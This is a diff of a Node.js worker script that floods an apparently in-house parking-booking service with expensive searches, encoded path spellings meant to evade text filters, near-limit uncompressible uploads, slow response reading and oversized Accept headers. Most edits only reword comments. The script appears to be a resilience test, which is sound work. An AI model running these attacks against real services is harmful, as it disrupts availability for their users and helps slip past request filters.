@@ -1,4 +1,4 @@
-// One attacker, in a thread of its own, from an address of its own, until the thread is ended.
+// One attacker with its own thread and address, until the thread is ended.
 import { execFileSync } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
@@ -12,7 +12,7 @@ import { gzipSync } from 'node:zlib';
 const { attack, url, connections, token, ownerToken, teamToken, localAddress } = workerData;
 const { hostname, port } = new URL(url);
 const AT_ONCE = 50;
-/** Clients of one account that has much to list. */
+/** Clients of one account with long lists. */
 const CLIENTS = 12;
 /** Uploads of one team at once. */
 const UPLOADS = 30;
@@ -104,7 +104,7 @@ function ask(path, { body, read = (answer) => answer.resume(), ...options }) {
   });
 }
 
-/** Runs so many at once, each again when it is over, without end. */
+/** Runs `count` tasks at once and repeats each, without end. */
 function forever(count, run) {
   for (let client = 0; client < count; client += 1)
     void (async () => {
@@ -112,7 +112,7 @@ function forever(count, run) {
     })();
 }
 
-/** For the most parkings, for the longest stay, sorted; every other one with words to search for. */
+/** Most expensive searches: most parkings, longest stay, sorted; every other one with words. */
 function expensivePath(n) {
   const from = new Date(Date.now() + DAY_MS);
   const query = new URLSearchParams({
@@ -124,16 +124,21 @@ function expensivePath(n) {
   return `/api/parking/available?${query}`;
 }
 
-/** The same path, spelt so that whoever reads it as text takes it for none of the API's. */
+/** Another spelling of a path, which a plain text comparison does not recognise. */
 const SPELLINGS = [
   (path) => path.replace('/api', '/%61pi'),
   (path) => `http://parqueo.gt${path}`,
   (path) => path.replace('available', '%61vailable'),
 ];
 
-/** Every list that a driver, or an owner, can be given, one after the other, read in whole. */
+/** Every list of a driver and of an owner. */
 const LISTS = {
-  driver: ['documents/confirmaciones', 'documents/booking', 'documents/parkings'],
+  driver: [
+    'documents/stays?limit=500',
+    'documents/confirmaciones',
+    'documents/booking',
+    'documents/parkings',
+  ],
   owner: ['parking/reservations', 'parking/reservations?page=5', 'parking/my-parkings'],
 };
 
@@ -145,14 +150,14 @@ const readLists = (agent, clients, paths, headers) =>
     }),
   );
 
-/** An archive of nearly the size that an upload may have, of which every byte has to be unpacked. */
+/** An archive of nearly the largest allowed upload, with every byte to unpack. */
 function largeArchive() {
   const folder = mkdtempSync(join(tmpdir(), 'parqueo-archive-'));
   try {
     writeFileSync(join(folder, 'manifest.json'), '{}');
     writeFileSync(join(folder, 'map.js'), randomBytes(19 * 1024 * 1024));
     const tar = execFileSync('tar', ['-c', '-C', folder, '.'], { maxBuffer: 2 ** 30 });
-    // Nothing makes random bytes smaller.
+    // Random bytes cannot be compressed.
     return gzipSync(tar, { level: 0 });
   } finally {
     rmSync(folder, { recursive: true });
@@ -165,7 +170,7 @@ function sip(answer) {
   return answer.once('close', () => clearInterval(timer));
 }
 
-/** As much as a request's headers may hold, in types that are compared with what is offered. */
+/** The longest allowed Accept header, whose types the server compares with its own. */
 const LONG_ACCEPT = `${'text/x;q=0.1,'.repeat(550)}application/json`;
 
 if (attack === 'sockets') {
@@ -183,7 +188,7 @@ if (attack === 'sockets') {
   const agent = new Agent({ keepAlive: true });
   const headers = { authorization: ownerToken };
   readLists(agent, CLIENTS, LISTS.owner, headers);
-  // No more spreadsheets are given at once.
+  // The server produces two spreadsheets at a time at most.
   readLists(agent, 2, ['parking/reservations'], { ...headers, accept: 'text/csv' });
 } else if (attack === 'headers') {
   const headers = { authorization: ownerToken, accept: LONG_ACCEPT };
